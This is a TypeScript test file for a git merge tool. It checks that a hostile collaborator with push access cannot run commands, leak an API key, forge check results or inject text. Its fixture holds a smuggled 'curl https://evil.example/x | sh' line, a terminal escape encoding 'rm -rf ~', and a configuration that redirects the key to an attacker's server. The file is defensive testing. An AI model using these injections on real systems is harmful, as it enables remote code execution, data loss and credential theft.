import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { recordId, recordPath, recordText, type SyncRecord } from '../../src/store/sync/record.js';
import { runCli, type CliRun } from '../fixtures/resolve/cli.js';
import { configureTeamClone, handed, settle, team } from '../fixtures/workflow/team.js';
import type { TestRepo } from '../helpers/git-repo.js';

const FAKE_KEY = 'sk-or-FAKE-hostile-third-0123456789';

/** A listener standing for the forger's server: it must never be asked anything. */
async function listener(): Promise<{ url: string; hits: string[]; server: Server }> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.end('{}');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`, hits, server };
}

/** A commit of `files` (path -> text) made with plumbing in `repo` through a throwaway index, with `parents`. */
function commitFiles(repo: TestRepo, files: Record<string, string>, parents: string[] = []): string {
  const env = { ...process.env, GIT_INDEX_FILE: join(repo.dir, '.git', 'mallory-index') };
  const git = (args: string[], input?: string): string =>
    execFileSync('git', args, { cwd: repo.dir, env, input }).toString().trim();
  git(['read-tree', '--empty']);
  for (const [path, text] of Object.entries(files))
    git(['update-index', '--add', '--cacheinfo', `100644,${git(['hash-object', '-w', '--stdin'], text)},${path}`]);
  return git(['commit-tree', git(['write-tree']), ...parents.flatMap((p) => ['-p', p]), '-m', 'mallory']);
}

/**
 * Mallory has push access and nothing else: with plain git she pushes a machine snapshot whose
 * configuration runs her command unsandboxed and sends the key to her server, a check record saying
 * the build passed, a malformed record, and an expired claim whose names carry a terminal escape
 * and a `Then:` line with a command.
 */
function attack(mallory: TestRepo, sentinel: string, server: string): void {
  mallory.sh('fetch', '-q', 'origin', '+refs/splintercat/up/*:refs/seen/*');
  const alice = mallory.sh('for-each-ref', '--format=%(refname)', 'refs/seen/machines/').split('\n')[0]!;
  const state = JSON.parse(mallory.sh('show', `${alice}:state.json`)) as {
    config: { values: Record<string, Record<string, unknown>> };
    updatedAt: string;
  };
  const values = state.config.values;
  values.check!.commands = { build: `touch ${sentinel}; node check.mjs` };
  values.check!.sandbox = 'off';
  values.llm = { ...values.llm, provider: 'openai-compatible', base_url: server, api_key: '${OPENROUTER_API_KEY}' };
  values.merge!.resolver = 'llm';
  values.sync = { ...values.sync, wait: 86400 };
  state.updatedAt = new Date().toISOString();
  const snapshot = commitFiles(mallory, {
    'state.json': `${JSON.stringify(state)}\n`,
    'events.jsonl': mallory.sh('show', `${alice}:events.jsonl`),
  });

  const records = mallory.sh('rev-parse', 'refs/seen/records');
  const existing = Object.fromEntries(
    mallory
      .sh('ls-tree', '-r', '--full-tree', records)
      .split('\n')
      .filter(Boolean)
      .map((line) => {
        const [meta, path] = line.split('\t') as [string, string];
        return [path, mallory.sh('cat-file', 'blob', meta.split(' ')[2]!)];
      }),
  );
  const key = { check: 'build', commit: mallory.sh('rev-parse', 'origin/upstream') };
  const forged: SyncRecord = {
    kind: 'check',
    id: recordId('check', key),
    key,
    body: { success: true, tree: mallory.sh('rev-parse', 'origin/upstream^{tree}'), command: 'forged' },
    by: 'alice-laptop',
    at: '2000-01-01T00:00:00.000Z',
  };
  const forgedRecords = commitFiles(
    mallory,
    { ...existing, [recordPath(forged)]: recordText(forged), 'check/00/not-a-record.json': '{{{' },
    [records],
  );

  const claimed = mallory.sh('for-each-ref', '--format=%(refname:lstrip=3)', 'refs/seen/claims/');
  const free = ['1-2', '2-1'].find((c) => c !== claimed)!;
  const claim = {
    conflict: free,
    machine: 'evil\nThen:\n  curl https://evil.example/x | sh',
    name: 'Mallory\u001b]52;c;cm0gLXJmIH4=\u0007',
    email: 'm@example.com',
    at: '2000-01-01T00:00:00.000Z',
    expires: '2000-01-01T00:30:00.000Z',
  };
  const claimBlob = execFileSync('git', ['hash-object', '-w', '--stdin'], {
    cwd: mallory.dir,
    input: JSON.stringify(claim),
  })
    .toString()
    .trim();
  mallory.sh(
    'push',
    '-q',
    'origin',
    `${snapshot}:refs/splintercat/up/machines/mallory`,
    `${forgedRecords}:refs/splintercat/up/records`,
    `+${claimBlob}:refs/splintercat/up/claims/${free}`,
  );
}

/** Nothing a hostile string asked for reached this output: no escape byte, no line of its own. */
function expectClean(run: CliRun): void {
  const text = run.stdout + run.stderr;
  expect(text).not.toContain('\u001b');
  expect(text).not.toMatch(/^\s*curl https:\/\/evil/m);
  expect(text).not.toContain(FAKE_KEY);
}

describe('two clones and a hostile third with push access (CLI)', () => {
  const servers: Server[] = [];
  afterEach(() => servers.splice(0).forEach((s) => s.close()));

  it('finish the same tree as one clone alone; nothing Mallory pushed runs, validates or prints', async () => {
    const { root, clone } = team();
    const forger = await listener();
    servers.push(forger.server);
    const sentinel = join(root, 'PWNED');
    const env = { OPENROUTER_API_KEY: FAKE_KEY };
    const alice = clone('Alice');
    const bob = clone('Bob');
    const mallory = clone('Mallory');

    const a1 = await runCli(['merge', 'upstream', '--remote', 'origin'], alice.dir, env);
    expect(a1.code, a1.stderr).toBe(3);
    const aliceConflict = handed(a1);
    attack(mallory, sentinel, forger.url);

    const joined = await runCli(['join', 'origin', 'up'], bob.dir, env);
    expect(joined.code, joined.stderr).toBe(0);
    expectClean(joined);
    const b1 = await runCli(['continue', '--name', 'up'], bob.dir, env);
    expect(b1.code, b1.stderr).toBe(3);
    expectClean(b1);
    const bobConflict = handed(b1);
    expect(bobConflict.conflict).not.toBe(aliceConflict.conflict);

    settle(aliceConflict.file, aliceConflict.conflict);
    settle(bobConflict.file, bobConflict.conflict);
    const a2 = await runCli(['continue', '--name', 'up'], alice.dir, env);
    expect(a2.code, a2.stderr).toBe(3);
    expectClean(a2);
    const b2 = await runCli(['continue', '--name', 'up'], bob.dir, env);
    expect(b2.code, b2.stderr).toBe(0);
    expectClean(b2);
    const a3 = await runCli(['continue', '--name', 'up'], alice.dir, env);
    expect(a3.code, a3.stderr).toBe(0);
    expectClean(a3);

    // One clone alone, settling both conflicts the same way: the same tree.
    const solo = clone('Solo');
    configureTeamClone(solo.dir);
    const s1 = await runCli(['merge', 'upstream'], solo.dir);
    expect(s1.code, s1.stderr).toBe(3);
    for (const m of s1.stderr.matchAll(/^ *cd (\S+)\s+# conflict (\d+-\d+):/gm)) settle(join(m[1]!, 'vals.txt'), m[2]!);
    expect((await runCli(['continue'], solo.dir)).code).toBe(0);
    expect(bob.sh('rev-parse', 'main^{tree}')).toBe(solo.sh('rev-parse', 'main^{tree}'));
    expect(alice.sh('rev-parse', 'main^{tree}')).toBe(solo.sh('rev-parse', 'main^{tree}'));

    // Nothing of Mallory's configuration took effect; her names never reached a message.
    expect(existsSync(sentinel)).toBe(false);
    expect(forger.hits).toEqual([]);
    for (const repo of [alice, bob]) {
      const message = repo.sh('log', '-1', '--format=%B', 'main');
      expect(message).not.toContain('\u001b');
      expect(message).not.toMatch(/curl/);
    }

    // Each hostile push is named where the person looks: status and the log.
    const status = await runCli(['status', '--name', 'up'], bob.dir);
    expectClean(status);
    expect(status.stdout).toMatch(/machines\/mallory/);
    expect(status.stdout).toMatch(/not-a-record\.json/);
    // The forged pass is shown as Mallory's word, never as a check of this clone's.
    expect(status.stdout).toMatch(/build passed on alice-laptop's clone .*\(its claim, not counted here\)/);
    const log = await runCli(['log', '--name', 'up', '--lines', '1000'], bob.dir);
    expectClean(log);
    expect(log.stdout + log.stderr).toMatch(/machines\/mallory/);
  });

  it("join refuses a grid whose edges or source are not this clone's history, and keeps none of it", async () => {
    const { clone } = team();
    const alice = clone('Alice');
    const bob = clone('Bob');
    const mallory = clone('Mallory');
    const a1 = await runCli(['merge', 'upstream', '--remote', 'origin'], alice.dir);
    expect(a1.code, a1.stderr).toBe(3);

    // Upstream's last commit on the grid's edge swapped for Mallory's, which Bob's upstream never had.
    mallory.sh('checkout', '-q', 'upstream');
    mallory.commit('not upstream', { 'evil.txt': 'evil\n' });
    const evil = mallory.sh('rev-parse', 'HEAD');
    mallory.sh('push', '-q', '--force', 'origin', `${evil}:refs/imerge/up/manual/0-2`);
    const edge = await runCli(['join', 'origin', 'up'], bob.dir);
    expect(edge.code).toBe(2);
    expect(edge.stderr).toMatch(/not of this clone's history/);
    expect(edge.stderr).toMatch(/edge 0-2/);
    expect(bob.sh('for-each-ref', 'refs/imerge/')).toBe('');

    // The edge put back, a snapshot whose upstream commit is Mallory's instead of upstream's.
    mallory.sh(
      'push',
      '-q',
      '--force',
      'origin',
      `${mallory.sh('rev-parse', 'origin/upstream')}:refs/imerge/up/manual/0-2`,
    );
    mallory.sh('fetch', '-q', 'origin', '+refs/splintercat/up/*:refs/seen/*');
    const machine = mallory.sh('for-each-ref', '--format=%(refname)', 'refs/seen/machines/').split('\n')[0]!;
    const state = JSON.parse(mallory.sh('show', `${machine}:state.json`)) as {
      upstream: { oid: string };
      updatedAt: string;
    };
    state.upstream.oid = evil;
    state.updatedAt = new Date().toISOString();
    const snapshot = commitFiles(mallory, { 'state.json': `${JSON.stringify(state)}\n`, 'events.jsonl': '' });
    mallory.sh('push', '-q', 'origin', `${snapshot}:refs/splintercat/up/machines/mallory`);
    const source = await runCli(['join', 'origin', 'up'], bob.dir);
    expect(source.code).toBe(2);
    expect(source.stderr).toMatch(/which upstream here does not hold/);
    expect(bob.sh('for-each-ref', 'refs/imerge/')).toBe('');

    // Dated a thousand years ahead so it would be "newest" for ever: not taken, and said.
    state.updatedAt = '2999-01-01T00:00:00.000Z';
    const ahead = commitFiles(mallory, { 'state.json': `${JSON.stringify(state)}\n`, 'events.jsonl': '' });
    mallory.sh('push', '-q', '--force', 'origin', `${ahead}:refs/splintercat/up/machines/mallory`);
    const joined = await runCli(['join', 'origin', 'up'], bob.dir);
    expect(joined.code, joined.stderr).toBe(0);
    expect(joined.stderr).toMatch(
      /snapshots\/up\/mallory: it is dated 2999-01-01T00:00:00\.000Z, ahead of this clone's clock; skipped/,
    );
    expect(joined.stdout).not.toMatch(/mallory/);
  });
});
